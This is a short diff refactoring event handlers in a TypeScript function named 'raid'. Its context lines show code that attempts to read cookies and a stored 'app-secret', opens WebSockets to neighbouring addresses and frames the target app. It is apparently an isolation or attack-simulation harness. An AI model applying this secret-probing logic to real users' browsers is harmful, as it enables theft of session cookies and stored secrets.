@@ -51,8 +51,8 @@ async function raid({ appOrigin, neighbours }: Prey): Promise<void> {
   const openSocket = (address: string) =>
     new Promise((resolve, reject) => {
       const socket = new WebSocket(address);
-      socket.onopen = () => resolve("open");
-      socket.onerror = () => reject(new Error("closed"));
+      socket.addEventListener("open", () => resolve("open"));
+      socket.addEventListener("error", () => reject(new Error("closed")));
     });
   await attempt("cookies", () => document.cookie);
   await attempt("storage", () => localStorage.getItem("app-secret"));
@@ -66,7 +66,7 @@ async function raid({ appOrigin, neighbours }: Prey): Promise<void> {
     const frame = document.createElementNS("http://www.w3.org/1999/xhtml", "iframe");
     frame.setAttribute("src", `${appOrigin}/`);
     const loaded = new Promise((resolve) => {
-      frame.onload = resolve;
+      frame.addEventListener("load", resolve);
     });
     document.documentElement.append(frame);
     await loaded;
